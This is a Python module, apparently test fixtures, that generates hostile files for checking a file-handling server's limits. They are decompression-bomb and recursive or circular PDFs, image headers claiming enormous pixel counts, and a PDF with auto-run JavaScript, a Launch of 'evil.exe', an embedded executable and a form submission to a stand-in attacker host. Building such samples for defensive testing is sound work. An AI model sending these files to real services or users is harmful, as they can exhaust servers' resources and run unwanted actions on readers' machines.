"""Files that keep a server busy, fill its memory, or do something when opened."""

import io
import struct
import zlib

from PIL import Image


def pdf_of(*objects, trailer=""):
    """Return a PDF of objects, the first of which is the catalog."""
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(content))
        body = one if isinstance(one, bytes) else one.encode()
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        content
        + (
            f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R {trailer} >>\n"
            f"startxref\n{start}\n%%EOF\n"
        ).encode()
    )


def nested_pages(levels=30):
    """Return a PDF of some kilobytes with 2 to the power of 30 pages."""
    nodes = [
        f"<< /Type /Pages /Count 1 /Kids [{n + 1} 0 R {n + 1} 0 R] >>"
        for n in range(2, levels + 2)
    ]
    page = "<< /Type /Page /MediaBox [0 0 200 200] >>"
    return pdf_of("<< /Type /Catalog /Pages 2 0 R >>", *nodes, page)


def deep_pages(levels=3000):
    """Return a PDF whose one page is under very many levels."""
    nodes = [
        f"<< /Type /Pages /Count 1 /Kids [{n + 1} 0 R] >>" for n in range(2, levels + 2)
    ]
    page = "<< /Type /Page /MediaBox [0 0 200 200] >>"
    return pdf_of("<< /Type /Catalog /Pages 2 0 R >>", *nodes, page)


def circle():
    """Return a PDF whose pages are below themselves."""
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Count 1 /Kids [2 0 R] >>",
    )


def packed(head, block, times):
    """Return a text and many times another one, compressed."""
    parts, check = [], zlib.adler32(head)
    for part in (head, block):
        packer = zlib.compressobj(9, wbits=-15)
        # Nothing before it is referred to, so that it can be repeated
        parts.append(packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH))
    for _time in range(times):
        check = zlib.adler32(block, check)
    data = parts[0] + parts[1] * times
    return b"\x78\xda" + data + b"\x03\x00" + struct.pack(">I", check)


def bomb(gigabytes=2):
    """Return a PDF whose catalog is in a stream that gets very large when unpacked."""
    head = b"1 0 2 38 ".ljust(9)
    head += b"<</Type/Catalog/Pages 2 0 R>>".ljust(38)
    head += b"<</Type/Pages/Count 0/Kids[]>>"
    stream = packed(head, b" " * 2**20, gigabytes * 1024)
    content = b"%PDF-1.7\n"
    place = len(content)
    content += (
        b"3 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d >>"
        b"\nstream\n%s\nendstream\nendobj\n" % (len(stream), stream)
    )
    start = len(content)
    rows = [(0, 0, 0), (2, 3, 0), (2, 3, 1), (1, place, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    return content + (
        b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Length %d >>"
        b"\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (len(table), table, start)
    )


def poisons():
    """Return ``{name: content}`` of PDFs that cannot be joined within the limits."""
    return {
        "nested.pdf": nested_pages(),
        "deep.pdf": deep_pages(),
        "circle.pdf": circle(),
        "bomb.pdf": bomb(),
    }


def active_pdf():
    """Return a PDF of one page that runs scripts, starts programs, and has files."""
    marks = [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 7 0 R >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        "/A << /S /Launch /F (evil.exe) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        "/#41 << /S /JavaScript /JS (evil#28) >> >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        "/A << /S /URI /URI (https://example.com/good) /Next 7 0 R >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        "/A << /S /URI /URI (javascript:evil) >> >>",
        "<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] "
        "/AA << /E 7 0 R >> /A << /S /SubmitForm /F (http://evil.example.com) >> >>",
        "11 0 R",
    ]
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /AA << /WC 7 0 R >> "
        "/Names << /JavaScript << /Names [(a) 7 0 R] >> "
        "/EmbeddedFiles << /Names [(evil.exe) 8 0 R] >> >> >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        f"/AA << /O 7 0 R >> /AF [8 0 R] /Annots [{' '.join(marks)}] "
        "/Resources << /Font << /F 5 0 R >> /XObject << /X 10 0 R >> >> >>",
        "<< /Length 39 >>\nstream\nBT /F 12 Tf 20 100 Td (Contract) Tj ET   \nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< >>",
        "<< /S /JavaScript /JS (app.alert\\(evil\\)) >>",
        "<< /Type /Filespec /F (evil.exe) /EF << /F 9 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream",
        "<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 1 "
        "/Ref << /F (evil.pdf) /Page 0 >> /F (evil.bin) >>\nstream\nq\nendstream",
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent 8 0 R >>",
    )


def huge_picture(side=13000):
    """Return a PNG of some hundred kilobytes with very many pixels."""
    rows = packed(b"", b"\0" * (side * 3 + 1), side)
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    content = b"\x89PNG\r\n\x1a\n"
    for name, part in ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")):
        content += struct.pack(">I", len(part)) + name + part
        content += struct.pack(">I", zlib.crc32(name + part))
    return content


def huge_jpeg(side=9000):
    """Return a JPEG that says that it has very many pixels."""
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "JPEG")
    content = file.getvalue()
    place = content.index(b"\xff\xc0") + 5
    return content[:place] + struct.pack(">HH", side, side) + content[place + 4 :]


def huge_gif(side=9000):
    """Return a GIF that says that it has very many pixels."""
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "GIF")
    return file.getvalue()[:6] + struct.pack("<HH", side, side) + file.getvalue()[10:]


def huge_webp(side=16383):
    """Return the beginning of a WebP picture of very many pixels."""
    chunk = b"\0\0\0\0" + (side - 1).to_bytes(3, "little") * 2
    return b"RIFF" + struct.pack("<I", 22) + b"WEBPVP8X" + struct.pack("<I", 10) + chunk
